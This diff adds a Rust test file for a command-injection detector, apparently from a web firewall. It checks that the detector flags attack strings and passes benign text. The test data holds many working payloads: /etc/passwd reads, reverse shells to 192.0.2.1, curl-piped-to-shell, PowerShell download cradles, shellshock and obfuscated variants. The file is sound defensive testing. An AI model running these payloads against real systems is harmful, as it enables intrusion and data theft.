@@ -1,0 +1,205 @@
+use crate::{Analysis, Detectors, Level, Location, Place};
+
+fn with(text: &str, check: impl FnOnce(&Analysis, &Detectors)) {
+    let detectors = Detectors::new();
+    let mut analysis = Analysis::new();
+    analysis.value(&detectors, Location::new(Place::Form, b"text"), text.as_bytes());
+    check(&analysis, &detectors);
+}
+
+/// The kinds found in `text`, loose ones with `~`.
+fn kinds(text: &str) -> String {
+    let mut names = Vec::new();
+    with(text, |analysis, _| {
+        for f in analysis.findings().iter().filter(|f| f.kind.id.starts_with("command.")) {
+            names.push(format!("{}{}", &f.kind.id["command.".len()..], if f.loose { "~" } else { "" }));
+        }
+    });
+    names.join(" ")
+}
+
+/// `text` has all of `wanted`.
+#[track_caller]
+fn check(text: &str, wanted: &str) {
+    let have = kinds(text);
+    for kind in wanted.split_whitespace() {
+        assert!(have.split_whitespace().any(|k| k == kind), "{text}\n  wanted {kind}\n  have   {have}");
+    }
+}
+
+fn is_blocked(text: &str, level: Level) -> bool {
+    let mut blocked = false;
+    with(text, |analysis, detectors| {
+        blocked = analysis.scores(detectors).any(|s| s.class.name() == "command" && s.blocks(level));
+    });
+    blocked
+}
+
+#[test]
+fn positions() {
+    check("1; cat /etc/passwd", "semicolon reading sensitive-file");
+    check("x.jpg|whoami", "pipe recon bare");
+    check("a && ls -la /", "logical listing path");
+    check("127.0.0.1\nid", "newline recon");
+    check("admin;ls", "semicolon listing bare");
+    check("a;id;", "semicolon recon bare");
+    check("1 & calc.exe", "ampersand system bare");
+    check("; ps aux", "semicolon recon argument");
+    check("$(</etc/passwd)", "substitution sensitive-file");
+    check("cd /tmp || cd /var/run; rm -rf *; wget http://192.0.2.1/x", "listing logical system network");
+    check("$(sleep 5)", "substitution delay number");
+    check("`id`", "substitution recon bare");
+    check("1';uname -a;'", "semicolon recon quote-break");
+    check("+|+dir+c:\\", "pipe listing path");
+    check("net user hacker Password1 /ADD", "whole recon argument");
+}
+
+#[test]
+fn written_otherwise() {
+    check(";c''at /etc/passwd", "split-name sensitive-file");
+    check(";c\\at /et\\c/passwd", "split-name sensitive-file");
+    check(";/???/??t /???/p??s??", "glob-name sensitive-file");
+    check(";{cat,/etc/passwd}", "brace-list sensitive-file");
+    check(";cat$IFS$9/etc/passwd", "ifs sensitive-file");
+    check(";who$@ami", "assembled-name recon");
+    check(";a=c;b=at;$a$b /etc/passwd", "assembled-name sensitive-file");
+    check("x&&X=$'cat\\x20/etc/passwd'&&$X", "assembled-name reading");
+    check("|w^h^o^a^m^i", "carets recon");
+    check(";%COMSPEC% /c whoami", "assembled-name code-argument");
+}
+
+#[test]
+fn what_it_does() {
+    check("1;curl http://a.example/x|sh", "piped-to-shell network host");
+    check("1;echo aWQ=|base64 -d|sh", "piped-to-shell");
+    check("& bash -i >& /dev/tcp/192.0.2.1/4444 0>&1", "reverse-shell");
+    check(";nc -e /bin/sh 192.0.2.1 4444", "reverse-shell");
+    check(";python3 -c 'import os;os.system(\"id\")'", "code-argument");
+    check("1;find / -name x -exec id \\;", "exec-argument");
+    check("() { :;}; /bin/bash -c 'id'", "shellshock");
+    check("powershell -enc SQBFAFgA", "encoded-powershell");
+    check("IEX (New-Object Net.WebClient).DownloadString('http://192.0.2.1/a')", "powershell-download");
+    check("-oProxyCommand=id", "option-injection");
+}
+
+#[test]
+fn benign() {
+    for text in [
+        "fish; cat food",
+        "tom & cat",
+        "en|id|ms",
+        "name;id;type",
+        "BASE; SET SWAROVSKI",
+        "in motion; set in motion",
+        "tropical shrub; source of croton oil",
+        "echo park | los angeles",
+        "curl iron & dryer",
+        "ls swap 350",
+        "a=1&id=2&sort=name",
+        "http://a.example/?a=1&id",
+        "text/html; q=0.9, image/*; q=0.5",
+        "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36",
+        "Tom &amp; cat food",
+        "git clone https://github.com/org/repo.git && cd repo && make",
+        "kubectl get pods -n kube-system | grep -v Running",
+        "if [ -f x ]; then cat x; fi",
+        "The `id` column",
+        "See `whoami` for details",
+        "Use `git status` and `ls -la`",
+        "npm install && npm run build",
+        "ssh user@example.com",
+        "price|id",
+        "de|nl|id",
+        "first; last; who",
+        "he said; 'echo' is nice",
+        "net use; net income",
+        "setup.exe",
+        "Use `ls -la` to list files, `cat README.md` to read it, and `git status` to see what has changed in them.",
+        "C:\\Program Files\\App\\bin;%PATH%",
+        "permission denied: /var/www/html/index.php; run chmod 644 and try again",
+        "query GetUser($id: ID!) { user(id: $id) { id name } }",
+        "who is it; more or less the head of sales & the last one to leave | sort of",
+    ] {
+        assert!(!is_blocked(text, Level::Balanced), "{text}: {}", kinds(text));
+    }
+}
+
+/// Words, separators and the like in the order of a sentence or a list never make a call.
+#[test]
+fn plain_words_never_block() {
+    let words = [
+        "find", "more", "who", "date", "host", "sort", "time", "last", "less", "test", "make", "top", "type",
+        "set", "at", "id",
+    ];
+    let signs = ["; ", " & ", " | ", ";", "|", ", ", " - ", "\n"];
+    let mut state = 1u32;
+    let mut next = |n: usize| {
+        state = state.wrapping_mul(1_664_525).wrapping_add(1_013_904_223);
+        (state >> 16) as usize % n
+    };
+    let detectors = Detectors::new();
+    let mut analysis = Analysis::new();
+    for _ in 0..400 {
+        let mut text = String::from("the new ");
+        for _ in 0..4 {
+            text.push_str(words[next(words.len())]);
+            text.push_str(" of it");
+            text.push_str(signs[next(signs.len())]);
+        }
+        analysis.clear();
+        analysis.value(&detectors, Location::new(Place::Form, b"text"), text.as_bytes());
+        let blocked =
+            analysis.scores(&detectors).any(|s| s.class.name() == "command" && s.blocks(Level::Balanced));
+        assert!(!blocked, "{text}");
+    }
+}
+
+/// However it is written, it stays blocked.
+#[test]
+fn mutations_keep_a_detection() {
+    let starts = ["1;", "x.jpg|", "a && ", "127.0.0.1\n", "'; ", "$("];
+    let names = [
+        "cat",
+        "c''at",
+        "c\"\"at",
+        "c\\at",
+        "'cat'",
+        "ca$@t",
+        "c$()at",
+        "/bin/cat",
+        "/bin/c?t",
+        "c${zz}at",
+        "$'\\x63at'",
+    ];
+    let spaces = [" ", "  ", "\t", "$IFS", "${IFS}", "$IFS$9"];
+    let files = ["/etc/passwd", "/etc/passw?", "/e''tc/passwd", "/etc/pass\\wd", "'/etc/passwd'"];
+    for start in starts {
+        for name in names {
+            for space in spaces {
+                for file in files {
+                    let end = if start == "$(" { ")" } else { "" };
+                    let text = format!("{start}{name}{space}{file}{end}");
+                    assert!(is_blocked_fast(&text), "{text}: {}", kinds(&text));
+                }
+            }
+        }
+    }
+}
+
+fn is_blocked_fast(text: &str) -> bool {
+    thread_local!(static DETECTORS: Detectors = Detectors::new());
+    DETECTORS.with(|detectors| {
+        let mut analysis = Analysis::new();
+        analysis.value(detectors, Location::new(Place::Form, b"text"), text.as_bytes());
+        analysis.scores(detectors).any(|s| s.class.name() == "command" && s.blocks(Level::Balanced))
+    })
+}
+
+/// Twice the text takes about twice the findings' work: what is read at one place is bounded.
+#[test]
+fn hostile_texts_end() {
+    for unit in [";$(", "`", ";a=$b", ";\"", ";'", "|{a,", ";cat ", "$((", "&%a:~", ";c\\"] {
+        let text = unit.repeat(20_000);
+        kinds(&text);
+    }
+}
